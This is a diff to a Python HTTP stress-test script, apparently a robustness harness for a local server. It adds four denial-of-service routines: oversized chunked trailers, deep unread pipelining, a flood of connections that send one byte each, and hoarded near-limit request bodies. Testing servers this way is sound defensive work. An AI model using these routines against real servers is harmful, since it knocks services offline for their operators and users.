@@ -19,6 +19,7 @@ from __future__ import annotations
 
 import argparse
 import asyncio
+import contextlib
 import hashlib
 import hmac
 import json
@@ -226,12 +227,72 @@ async def _half_closed_pipelined(target: Target, count: int = 200) -> None:
     print(f"    half-closed: {answered} of {count * 5} pipelined deliveries answered 200")
 
 
+async def _endless_trailers(target: Target) -> None:
+    """2 parallel chunked requests to an unknown path: an empty body, then 60 MB of trailers
+    each (uvicorn kept every field: 8 would take gigabytes)."""
+    start = b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
+    await _send_huge(target, _stream(start, b"a: b\r\n" * 10_000, 1000), parallel=2)
+
+
+async def _deep_pipeline(target: Target, count: int = 10, requests: int = 20_000) -> None:
+    """``count`` connections, each 20,000 pipelined requests in one write, answers unread."""
+    writers = []
+    for _ in range(count):
+        with contextlib.suppress(OSError):
+            _, writer = await asyncio.open_connection(HOST, target.port)
+            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * requests)
+            writers.append(writer)
+    await asyncio.sleep(10)
+    target.mark()
+    for writer in writers:
+        writer.close()
+
+
+async def _silent_flood(target: Target, count: int = 1000, seconds: float = 20) -> None:
+    """``count`` connections that send one byte of a head, each reopened once closed."""
+    deadline = time.monotonic() + seconds
+
+    async def one() -> None:
+        while time.monotonic() < deadline:
+            try:
+                reader, writer = await asyncio.open_connection(HOST, target.port)
+                writer.write(b"G")
+                await asyncio.wait_for(reader.read(), deadline - time.monotonic())
+                writer.close()
+            except (OSError, TimeoutError):
+                await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(one() for _ in range(count)))
+    target.mark()
+
+
+async def _body_hoard(target: Target, count: int = 400) -> None:
+    """``count`` unsigned bodies of 2 MiB less one byte to the receiver, held to their 408."""
+    limit = 2 * 1024 * 1024
+    head = f"POST {target.path} HTTP/1.1\r\nHost: x\r\nContent-Length: {limit}\r\n\r\n"
+
+    async def one() -> None:
+        with contextlib.suppress(OSError, TimeoutError):
+            reader, writer = await asyncio.open_connection(HOST, target.port)
+            writer.write(head.encode() + b" " * (limit - 1))
+            await writer.drain()
+            await asyncio.wait_for(reader.read(), 15)
+            writer.close()
+
+    await asyncio.gather(*(one() for _ in range(count)))
+    target.mark()
+
+
 ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
     "early-answer-hold": _hold_early_answered,
     "huge-request-line": _huge_line,
     "huge-header": _huge_header,
     "many-headers": _many_headers,
     "half-closed-pipelined": _half_closed_pipelined,
+    "endless-trailers": _endless_trailers,
+    "deep-pipeline": _deep_pipeline,
+    "silent-flood": _silent_flood,
+    "body-hoard": _body_hoard,
 }
 
 
